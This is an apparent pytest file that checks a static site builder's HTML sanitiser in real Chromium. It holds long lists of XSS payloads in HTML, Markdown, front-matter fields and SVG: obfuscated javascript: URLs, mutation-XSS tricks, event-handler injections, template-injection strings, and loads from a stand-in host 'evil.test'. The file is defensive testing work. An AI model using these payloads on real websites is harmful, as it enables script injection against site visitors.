"""Script injection, tried in real Chromium without any Content-Security-Policy, so that sanitising alone stands."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

import pytest
from playwright.sync_api import Browser

from tests.browser import StaticServer, Visit, launch_chromium, serve, visit
from tests.test_suites import NAUGHTY, SUITES, find_dangers
from tests.world import MZJ, PORTAL, QINGSHUI, Built, World

CALL = "alert(1)"
FOREIGN = "evil.test"

COUNTER = """
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = () => { window.noteScript(name + " on " + location.href); };
}
window.name = "";
"""
"""Put into every page before its own scripts: whatever injected code does, it ends in one of these calls."""

LOOK = """async () => {
  for (const element of document.querySelectorAll("main *")) {
    element.focus?.();
    element.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
  }
  await new Promise(done => setTimeout(done, 0));
  const faults = [];
  for (const element of document.querySelectorAll("*")) {
    // The theme's own parts: content keeps none of these classes, and no script.
    const isTheme = element.closest("details.share, button.copy, form.search-box") !== null
      || element.matches("script[src][integrity]");
    const inContent = element.closest("main") !== null && !isTheme;
    for (const {name, value} of element.attributes) {
      if (/^on/i.test(name)) faults.push(element.tagName + " " + name);
      const isOwn = name === "srcset" && value.split(", ").every((file) => /^(\\/[a-z]+)?\\/images\\//.test(file));
      if (inContent && !isOwn && /^(style|srcdoc|srcset|formaction|background|ping)$/i.test(name)) {
        faults.push(element.tagName + " " + name);
      }
      if (/^(href|src|action|xlink:href|data|to|from|values)$/i.test(name) && name !== "content") {
        let scheme = "";
        try { scheme = new URL(value, location.href).protocol; } catch { scheme = ""; }
        if (!["http:", "https:", "mailto:", "tel:", ""].includes(scheme)) faults.push(name + "=" + value);
      }
    }
    const forbidden = "script,style,iframe,frame,object,embed,base,form,input,button,svg,math,link,meta,template";
    if (inContent && element.matches(forbidden)) faults.push(element.tagName);
  }
  return faults;
}"""
"""Lets a page do what it would under a reader's hands; returns what must not be left in it, as the browser saw it."""

HTML_VECTORS = f"""
<script>{CALL}</script>
<script src=//{FOREIGN}/x.js></script>
<ScRiPt\x0c>{CALL}</ScRiPt >
<<script>{CALL}//<</script>
<script/src=data:,{CALL}></script>
<scr<script>ipt>{CALL}</scr</script>ipt>
<img src=x onerror={CALL}>
<img src="ok.svg" alt="a>b" onload="{CALL}" width="1 onload={CALL}" height='1" onload="{CALL}'>
<img alt='" onload="{CALL}' src=ok.svg title="' onload='{CALL}" class="left onload" style=x>
<img/src=x/onerror={CALL}>
<img src=x:x onerror\n=\n{CALL}>
<img src=//{FOREIGN}/x.png srcset=//{FOREIGN}/y.png>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>" alt=x>
<img alt="<img src=x onerror={CALL}>" src=x>
<abbr title="<img src=x onerror={CALL}>">x</abbr>
<abbr title='"><img src=x onerror={CALL}>'>x</abbr>
<abbr title="<table onmouseover={CALL} "><table><tr><td>x</td></tr></table></abbr>
<a href="no-such.md" title="><img src=x onerror={CALL}>">dead</a>
<svg onload={CALL}>
<svg><script>{CALL}</script></svg>
<svg><animate onbegin={CALL} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{CALL}"><text y=20>x</text></a></svg>
<svg><set attributeName=href to=javascript:{CALL}><a><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{CALL}</script></svg>#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={CALL}&gt;">
<math><mi//xlink:href="data:x,<script>{CALL}</script>">
<math href="javascript:{CALL}">x</math>
<svg></p><style><a id="</style><img src=x onerror={CALL}>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>
<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript>
<template><img src=x onerror={CALL}></template>
<div><template shadowrootmode=open><script>{CALL}</script></template></div>
<textarea><p title="</textarea><img src=x onerror={CALL}>">
<title><p title="</title><img src=x onerror={CALL}>">
<xmp><p title="</xmp><img src=x onerror={CALL}>">
<plaintext><img src=x onerror={CALL}>
<select><style></select><img src=x onerror={CALL}></style>
<iframe src="javascript:{CALL}"></iframe>
<iframe srcdoc="<script>{CALL}</script>"></iframe>
<object data="javascript:{CALL}"></object><embed src="javascript:{CALL}">
<base href="//{FOREIGN}/"><a href="x">x</a>
<meta http-equiv=refresh content="0;url=javascript:{CALL}"><meta http-equiv=refresh content="0;url=http://{FOREIGN}/">
<link rel=stylesheet href=//{FOREIGN}/x.css>
<style>@import "//{FOREIGN}/y.css"; body{{background:url(//{FOREIGN}/z)}}</style>
<p style="background:url(//{FOREIGN}/x);position:fixed">x</p>
<table background="//{FOREIGN}/x"><tr><td background="javascript:{CALL}">x</td></tr></table>
<form action="javascript:{CALL}"><button>x</button></form><button formaction="javascript:{CALL}">x</button>
<form><input type=image src=//{FOREIGN}/x formaction=javascript:{CALL}><input autofocus onfocus={CALL}>
<isindex type=image src=1 onerror={CALL}>
<details open ontoggle={CALL}><summary onclick={CALL}>x</summary>x</details>
<div onpointerover={CALL} onclick={CALL} onmouseover={CALL}>x</div>
<div contenteditable autofocus tabindex=1 onfocus={CALL}>x</div>
<video src=//{FOREIGN}/x onerror={CALL}><source onerror={CALL}></video><audio src onerror={CALL}>
<body onload={CALL}><body background=//{FOREIGN}/x>
<marquee onstart={CALL}>x</marquee>
<xss id=x tabindex=1 onfocus={CALL}></xss>
<a href="javascript:{CALL}">x</a> <a href="JaVaScRiPt:{CALL}">x</a> <a href=" javascript:{CALL}">x</a>
<a href="java\tscript:{CALL}">x</a> <a href="java&#10;script:{CALL}">x</a> <a href="&#1;javascript:{CALL}">x</a>
<a href="&#106;avascript&colon;{CALL}">x</a> <a href="javascript&#x3a;{CALL}">x</a>
<a href="java&Tab;script&NewLine;:{CALL}">x</a>
<a href="vbscript:{CALL}">x</a> <a href="data:text/html,<script>{CALL}</script>">x</a> <a href="blob:x">x</a>
<a href="view-source:javascript:{CALL}">x</a> <a href="feed:javascript:{CALL}">x</a> <a href="javascript://%0a{CALL}">x</a>
<a href="http://x/ javascript:{CALL}" target="_blank" ping="//{FOREIGN}/p" onclick="{CALL}">x</a>
<a href="https:javascript:{CALL}">x</a> <a href="\\\\{FOREIGN}/x">x</a> <a href="jav\x0bascript:{CALL}">x</a>
<a name="alert" id="noteScript">x</a><p id="alert">x</p><h3 id="main-content">x</h3>
<p class="wrap skip masthead" dir="rtl" lang='"><script>{CALL}</script>'>x</p>
<!--><img src=x onerror={CALL}>--> <!-- --!><img src=x onerror={CALL}> -->
<![CDATA[<img src=x onerror={CALL}>]]> <?xml version="1.0"?><?php echo 1 ?><img src=x onerror={CALL}>
<p/onmouseover={CALL}>x</p> <p "onmouseover={CALL} x=">x</p> <p =onclick={CALL}>x</p>
\u017fcript <\u017fcript>{CALL}</\u017fcript> <img src=x oner\u017fror={CALL}>
&lt;script&gt;{CALL}&lt;/script&gt; &amp;lt;script&amp;gt;{CALL}
""".strip().split("\n<")
"""Raw HTML in a body; a line that begins with `<` begins a vector."""

MARKDOWN_VECTORS = f"""
[x](javascript:{CALL})
[x](JaVaScRiPt:{CALL}) [x]( javascript:{CALL} ) [x](<javascript:{CALL}>)
[x](java&#115;cript:{CALL}) [x](javascript&colon;{CALL}) [x](&#x6A;avascript:{CALL})
[x](java\tscript:{CALL}) [x](javascript\\:{CALL}) [x](&#9;javascript:{CALL})
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](vbscript:{CALL})
[x][1] [1]\n\n[1]: javascript:{CALL} "x"
<javascript:{CALL}> <JAVASCRIPT:{CALL}>
[x](https://a.example/ "x\\" onmouseover=\\"{CALL}") [x](https://a.example/ '"><img src=x onerror={CALL}>')
[x](no-such.md '><img src=x onerror={CALL}>') [x](no-such.md "<a href=/-reference-/0>")
[x](https://a.example/"onclick="{CALL}) [x](https://a.example/'onclick='{CALL}'')
![x](javascript:{CALL}) ![x](data:image/svg+xml,<svg/onload={CALL}>) ![x](//{FOREIGN}/x.png) ![x](https://{FOREIGN}/x.png)
![x"onerror="{CALL}](x.png) ![" onerror="{CALL}](ok.svg) ![<img src=x onerror={CALL}>](ok.svg "x' onload='{CALL}")
![x](ok.svg){{ onerror="{CALL}" style="x" srcset="//{FOREIGN}/x 1x" src="//{FOREIGN}/y" }}
[x](https://a.example/){{onclick={CALL}}} [x](https://a.example/){{: href="javascript:{CALL}" target=_top}}
[x](https://a.example/){{style=position:fixed}} [x](https://a.example/){{formaction=javascript:{CALL}}}
## x {{onclick={CALL} id="x\\" onfocus=\\"{CALL}" style=color:red}}
## <img src=x onerror={CALL}> {{#main-content .skip}}
*x*{{onmouseover="{CALL}"}} **x**{{: style="background:url(//{FOREIGN}/x)"}} `<script>{CALL}</script>`{{onclick={CALL}}}
x[^1]\n\n[^1]: <script>{CALL}</script> [x](javascript:{CALL})
x[^"onclick={CALL}]\n\n[^"onclick={CALL}]: x
XSS\n\n*[XSS]: "><img src=x onerror={CALL}>
| <script>{CALL}</script> | x |\n| --- | --- |\n| [x](javascript:{CALL}) | <img src=x onerror={CALL}> |
<img src=x onerror={CALL}>\n:   <svg onload={CALL}>
```html onclick={CALL}\n<script>{CALL}</script>\n```
``` {{.x onclick="{CALL}" style="x"}}\n</code></pre><script>{CALL}</script>\n```
> <script>{CALL}</script>\n\n- <img src=x onerror={CALL}>\n\n1. <svg/onload={CALL}>
<div markdown="1" onclick={CALL}>[x](javascript:{CALL})</div>
<a href="[x](javascript:{CALL})">x</a> [<img src=x onerror={CALL}>](https://a.example/)
[x](mzj:notices/x" onclick="{CALL}) [x](site:javascript:{CALL}) [x](#" onclick="{CALL}) [x](#javascript:{CALL})
<{CALL}@a.example> <"onclick={CALL}"@a.example>
""".strip().split("\n")
"""Markdown in a body, one a line; `\\n` in the text above is a line end within a vector."""

FIELD_VECTORS = (
    f"<script>{CALL}</script>",
    f'"><img src=x onerror={CALL}>',
    f"'><svg onload={CALL}>",
    f'" onmouseover="{CALL}" autofocus onfocus="{CALL}',
    f"</title><script>{CALL}</script>",
    f"--><img src=x onerror={CALL}><!--",
    f"]]><html xmlns='http://www.w3.org/1999/xhtml'><script>{CALL}</script></html>",
    f"javascript:{CALL}",
    f"0; url=javascript:{CALL}",
    "{{ 7 * 7 }}{% raw %}{{ ''.__class__ }}",
    "%s%(x)s{0}{title}${7*7}",
)
FIELDS = (
    "title source author summary keywords image_alt reviewed_by document_number index_number issuer theme genre"
    " disclosure ticket replied_by translation_of interprets 服务对象 自定"
).split()
SECTIONS = ("news", "policies", "services", "letters", "consultations", "interpretations", "about", "data")


def bleach_vectors() -> Iterator[str]:
    """Yield the hostile inputs of bleach's test suite."""
    for file in sorted((SUITES / "xss-bleach").glob("*.test"), key=lambda file: int(file.stem)):
        yield file.read_text(encoding="utf-8").partition("\n--\n")[0]


@dataclass(frozen=True)
class Besieged:
    """A built county full of injections, served to a browser."""

    built: Built
    server: StaticServer
    browser: Browser


def document(body: str, **fields: object) -> str:
    """Return a document; fields are written so that YAML reads back exactly what they are."""
    known = {"title": "甲", "date": "2026-03-01", **fields}
    return "---\n" + "".join(f"{name}: {json.dumps(value)}\n" for name, value in known.items()) + f"---\n{body}\n"


def bodies() -> Mapping[str, str]:
    """Return one body for each vector, by name; the naughty strings, each alone in test_suites, by fours."""
    naughty = [text for text in NAUGHTY if re.search("script|onerror|<|alert|url", text, re.IGNORECASE)]
    groups = {
        "html": ["<" + vector.removeprefix("<") for vector in HTML_VECTORS],
        "markdown": [re.sub(r"\\n", "\n", vector) for vector in MARKDOWN_VECTORS],
        "bleach": list(bleach_vectors()),
        "naughty": ["\n\n".join(naughty[start : start + 4]) for start in range(0, len(naughty), 4)],
    }
    return {f"{group}-{number}": text for group, texts in groups.items() for number, text in enumerate(texts)}


@pytest.fixture(scope="module")
def besieged(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Besieged]:
    """Yield the county, its server and a browser."""
    world = World(tmp_path_factory.mktemp("xss") / "county")
    picture = b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><title>x</title></svg>'
    world.write("content/mzj/notices/ok.svg", picture)
    for name, text in bodies().items():
        # A picture that is there: where it is missing the document is held, and its other parts prove nothing.
        body = re.sub(r"src=x(?=[ >])", "src=ok.svg", text)
        world.write(f"content/mzj/notices/{name}.md", document(f"前\n\n{body}\n\n后"))
        world.write(f"content/mzj/notices/{name}-inline.md", document(f"前 {body} 后", title="乙"))
    world.write("content/qingshui/news/a.txt", f"<script>{CALL}</script>")
    for number, vector in enumerate(FIELD_VECTORS):
        files = [{"file": "/news/a.txt", "title": vector}]
        changes = [{"date": vector, "note": vector}]
        fields = {**dict.fromkeys(FIELDS, vector), "keywords": [vector], "attachments": files, "changes": changes}
        for section in SECTIONS:
            content = document("[附件](/news/a.txt)", **fields, image="/news/a.svg")
            world.write(f"content/qingshui/{section}/fields-{number}.md", content)
    world.write("content/qingshui/news/a.svg", picture)
    built = world.build()
    with serve(built.output) as server, launch_chromium() as browser:
        yield Besieged(built, server, browser)


@pytest.fixture
def calls() -> list[str]:
    """Return the list of script calls that pages made."""
    return []


@pytest.fixture
def visitor(besieged: Besieged, calls: list[str]) -> Iterator[Visit]:
    """Yield a fresh visit whose pages report every script call."""

    def note(call: str) -> None:
        calls.append(call)

    with visit(besieged.browser, besieged.server) as visitor:
        visitor.context.expose_function("noteScript", note)
        visitor.context.add_init_script(COUNTER)
        yield visitor


def test_the_counter_notices_what_runs(besieged: Besieged, visitor: Visit, calls: list[str]) -> None:
    page = visitor.open(f"{MZJ}/404.html")
    page.set_content(f"<main><img src=x onerror={CALL}><p onclick=x style=x>x</p><a href='javascript:{CALL}'>x</a>")
    page.click("a")
    page.wait_for_function("true")
    assert len(calls) == 2
    assert len(page.evaluate(LOOK)) == 4
    page.evaluate(f"new Image().src = 'http://{FOREIGN}/x'")
    assert visitor.foreign == [f"http://{FOREIGN}/x"]


def test_no_injection_in_a_body_runs_loads_or_stays(besieged: Besieged, visitor: Visit, calls: list[str]) -> None:
    names = [f"{name}{kind}" for name in bodies() for kind in ("", "-inline")]
    paths = {name: f"{MZJ}/notices/{name}.html" for name in names}
    opened = 0
    page = visitor.context.new_page()
    for name, path in paths.items():
        if f"content/mzj/notices/{name}.md" in besieged.built.report.held:
            assert besieged.built.findings(path=f"content/mzj/notices/{name}.md")
            continue
        page.goto(besieged.server.url(path), wait_until="load")
        assert not page.evaluate(LOOK), name
        assert not calls, name
        assert page.url == besieged.server.url(path), name
        assert "前" in besieged.built.words(path), name
        assert not find_dangers(besieged.built.text(path)), name
        opened += 1
    assert not visitor.foreign
    assert opened > len(names) * 0.7


def test_no_injection_in_a_field_runs_loads_or_stays(besieged: Besieged, visitor: Visit, calls: list[str]) -> None:
    lists = [f"{PORTAL}/", f"{PORTAL}/sites/", f"{PORTAL}/sitemap.html", f"{QINGSHUI}/", f"{QINGSHUI}/sitemap.html"]
    lists += [f"{host}/{section}/" for host in (PORTAL, QINGSHUI) for section in SECTIONS]
    lists += [
        f"{QINGSHUI}/news/2026/03/",
        f"{QINGSHUI}/feed.xml",
        f"{QINGSHUI}/sitemap.xml",
        f"{QINGSHUI}/files/news/a.txt",
    ]
    pages = [
        f"{QINGSHUI}/{section}/fields-{number}.html" for section in SECTIONS for number in range(len(FIELD_VECTORS))
    ]
    assert not besieged.built.findings("FM-SYNTAX")
    page = visitor.context.new_page()
    for path in (*lists, *(path for path in pages if besieged.built.has(path))):
        page.goto(besieged.server.url(path), wait_until="load")
        assert not page.evaluate(LOOK), path
        assert not calls, path
    assert not visitor.foreign
    assert sum(besieged.built.has(path) for path in pages) == len(pages)


def test_what_templates_would_compute_is_shown_as_written(besieged: Besieged) -> None:
    number = FIELD_VECTORS.index("{{ 7 * 7 }}{% raw %}{{ ''.__class__ }}")
    heading = besieged.built.page(f"{QINGSHUI}/news/fields-{number}.html").h1
    assert heading and heading.get_text() == FIELD_VECTORS[number]


def test_no_link_that_is_left_runs_a_script_when_it_is_clicked(
    besieged: Besieged, visitor: Visit, calls: list[str]
) -> None:
    visitor.context.route(re.compile("^https://"), lambda route: route.fulfill(body="elsewhere"))
    goals = {}
    for name in bodies():
        path = f"{MZJ}/notices/{name}.html"
        for number, link in enumerate(
            besieged.built.page(path).select(".prose a[href]") if besieged.built.has(path) else ()
        ):
            goals.setdefault(str(link["href"]), (path, number))
    for path, number in goals.values():
        page = visitor.open(path)
        page.locator(".prose a[href]").nth(number).evaluate("link => link.click()")
        page.wait_for_load_state()
        assert not calls, (path, number)
        page.close()
    assert len(goals) >= 5
    assert not [url for url in visitor.requests if not url.startswith(("http:", "https:", "mailto:"))]


PICTURES = (
    *(
        f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'
        for inside in (
            f"<script>{CALL}</script>",
            f'<g onclick="{CALL}"/>',
            f'<a href="javascript:{CALL}"><text>x</text></a>',
            f'<use href="//{FOREIGN}/x.svg#x"/>',
            f'<image href="http://{FOREIGN}/x.png"/>',
            f'<path fill="URL(http://{FOREIGN}/x.svg#x)"/>',
            f'<path fill="url(#x) url(http://{FOREIGN}/x.svg#x)"/>',
            f'<path fill="u\\72l(http://{FOREIGN}/x.svg#x)"/>',
            f"<style>@import 'http://{FOREIGN}/x.css';</style>",
            f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{CALL}"/></foreignObject>',
            f'<set attributeName="onmouseover" to="{CALL}"/>',
            f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{CALL}</h:script>',
        )
    ),
    f'<?xml-stylesheet href="http://{FOREIGN}/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    f'<!DOCTYPE svg [<!ATTLIST g onload CDATA "{CALL}">]><svg xmlns="http://www.w3.org/2000/svg"><g/></svg>',
    '<?xml version="1.0" encoding="utf-7"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<?xml version="1.0" encoding="nonsense"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    f'<svg xmlns="http://www.w3.org/2000/svg" width="²"><g onload="{CALL}"/></svg>',
    f"<html><script>{CALL}</script></html>",
)


def test_no_picture_that_could_run_or_load_anything_is_published(tmp_path_factory: pytest.TempPathFactory) -> None:
    world = World(tmp_path_factory.mktemp("svg") / "county")
    for number, picture in enumerate(PICTURES):
        world.write(f"content/mzj/news/{number}.svg", picture)
        world.write(f"content/mzj/news/{number}.md", document(f"![图]({number}.svg)"))
    built = world.build()
    found = [built.rules(f"content/mzj/news/{number}.md") for number in range(len(PICTURES))]
    assert found == [{"IMG-SVG"}] * len(PICTURES)
    assert not [path for path in built.files() if path.startswith(f"{MZJ}/images/")]
